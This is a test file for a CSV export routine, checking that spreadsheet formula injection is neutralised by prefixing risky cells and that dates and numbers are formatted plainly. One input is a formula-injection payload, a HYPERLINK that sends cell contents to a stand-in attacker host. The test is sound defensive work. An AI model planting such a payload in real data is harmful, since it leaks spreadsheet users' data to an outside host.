import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvValue, listCsv } from '../../renderer/src/screens/list-csv.ts';

const cells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;

describe('a list exported as CSV', () => {
  it('escapes every text a spreadsheet would run as a formula, and only those', () => {
    const names = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '@SUM(A1:A9)',
      '+1+2',
      '-2+3',
      '\t=1',
      '\r=1',
      '=1\n+2',
      'Nusrat Jahan',
      'a=b',
      'Größe – সেবা',
    ];
    const csv = listCsv(
      ['Name', 'Amount'],
      names.map((n, i) => [n, -i]),
    );
    expect(csv.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = cells(csv);
    expect(header).toEqual(['Name', 'Amount']);
    expect(rows.map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
      "'@SUM(A1:A9)",
      "'+1+2",
      "'-2+3",
      "'\t=1",
      "'\r=1",
      "'=1\n+2",
      'Nusrat Jahan',
      'a=b',
      'Größe – সেবা',
    ]);
    // a negative number is a number, not a formula
    expect(rows.map((r) => r[1])).toEqual(['0', '-1', '-2', '-3', '-4', '-5', '-6', '-7', '-8', '-9']);
  });

  it('writes days and moments as ISO whatever the language, numbers without grouping, the rest as the list shows it', () => {
    const shown = () => 'as shown';
    expect(csvValue({ type: 'string', format: 'date' }, '2026-11-01', shown)).toBe('2026-11-01');
    const moment = new Date(2026, 10, 1, 9, 5);
    expect(csvValue({ type: 'string', format: 'date-time' }, moment.toISOString(), shown)).toBe('2026-11-01 09:05');
    expect(csvValue({ type: 'number', 'x-money': true }, '1234.5', shown)).toBe(1234.5);
    expect(csvValue({ type: 'integer', 'x-ref': 'employee' }, 7, shown)).toBe('as shown');
    expect(csvValue({ type: 'integer', enum: [0, 1, 2, 3] }, 1, shown)).toBe('as shown');
    expect(csvValue({ type: 'string' }, null, shown)).toBe('');
    expect(cells(listCsv(['Amount'], [[csvValue({ type: 'number' }, '1234567.25', shown)]]))[1]).toEqual([
      '1234567.25',
    ]);
  });
});
